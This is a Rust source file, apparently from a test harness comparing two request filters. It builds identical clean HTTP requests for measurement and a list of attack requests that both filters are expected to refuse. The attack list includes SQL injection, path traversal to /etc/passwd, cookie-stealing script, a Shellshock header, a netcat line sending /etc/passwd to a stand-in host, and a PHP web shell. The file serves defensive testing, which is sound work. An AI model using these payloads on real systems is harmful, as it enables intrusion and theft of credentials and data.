//! What is sent to both sides, byte for byte the same.

use std::fmt::Write as _;

use serde_json::json;

/// A request as it travels.
pub(super) struct Sent {
    /// What it is.
    pub(super) name: &'static str,
    /// All of it.
    pub(super) bytes: Vec<u8>,
    /// How much more it costs than the others, so that fewer of them are sent.
    pub(super) weight: usize,
}

const PROBE: &str = "/api/v1/security/probe";

/// As a browser sends them.
const HEADERS: &str = "host: app.example\r\n\
    user-agent: Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0\r\n\
    accept: application/json, text/plain, */*\r\n\
    accept-language: de-DE,de;q=0.9,en;q=0.8\r\n\
    referer: https://app.example/places\r\n";

const PROSE: &str = "The river rises early this year, said Anna, and we should move the boats before Friday. \
    Not everybody agrees: it is cheap, but it takes a whole day and four people. ";

/// What is measured.
pub(super) fn clean() -> [Sent; 3] {
    let chart = json!({
        "kind": "natal", "name": "Robin Neill", "date": "1987-03-14", "time": "05:47", "place": "Saint-Denis",
        "time_zone": "Indian/Reunion", "text": "A first look, then a longer one soon.",
    });
    let text: String = PROSE.chars().cycle().take(900).collect();
    let notes: Vec<_> =
        (0..106).map(|number| json!({ "id": number, "name": "Robin", "text": text })).collect();
    [
        get("GET, two values", "q=Lisbon+north&country=PT", ""),
        post("POST, 170 bytes of JSON", &chart.to_string(), 1),
        post("POST, 100 KB of JSON", &json!({ "notes": notes }).to_string(), 20),
    ]
}

/// What both must refuse.
pub(super) fn attacks() -> Vec<Sent> {
    let body = |value: &str| json!({ "name": value }).to_string();
    vec![
        get("SQL in the query", "q=7%27%20UNION%20SELECT%20name%2C%20pass%20FROM%20users--%20-", ""),
        get("a path in the query", "q=..%2F..%2F..%2F..%2Fetc%2Fpasswd", ""),
        get("markup in the query", "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", ""),
        get("a command in a header", "q=x", "x-note: () { :; }; /bin/cat /etc/passwd\r\n"),
        get("markup in a cookie", "q=x", "cookie: theme=<img src=x onerror=alert(1)>\r\n"),
        post("SQL in JSON", &body("1' OR '1'='1' UNION SELECT card FROM payments -- "), 1),
        post("markup in JSON", &body("<script>fetch('//a.example/'+document.cookie)</script>"), 1),
        post("a command in JSON", &body("; cat /etc/passwd | nc a.example 80"), 1),
        post("code in JSON", &body("<?php system($_GET['a']); ?>"), 1),
        post("a path in JSON", &body("../../../../etc/passwd"), 1),
    ]
}

fn get(name: &'static str, query: &str, more: &str) -> Sent {
    let bytes = format!("GET {PROBE}/places?{query} HTTP/1.1\r\n{HEADERS}{more}\r\n").into_bytes();
    Sent { name, bytes, weight: 1 }
}

fn post(name: &'static str, body: &str, weight: usize) -> Sent {
    let mut bytes = format!("POST {PROBE}/notes HTTP/1.1\r\n{HEADERS}content-type: application/json\r\n");
    // Writing to a text cannot fail.
    let _ = write!(bytes, "content-length: {}\r\n\r\n{body}", body.len());
    Sent { name, bytes: bytes.into_bytes(), weight }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bodies_are_as_long_as_their_names_say() {
        let length = |sent: &Sent| {
            let end = sent.bytes.windows(4).position(|four| four == b"\r\n\r\n").unwrap();
            sent.bytes.len() - end - 4
        };
        let [_, small, large] = clean();
        assert_eq!(length(&small), 170);
        assert!((99_000..101_000).contains(&length(&large)), "{}", length(&large));
    }
}
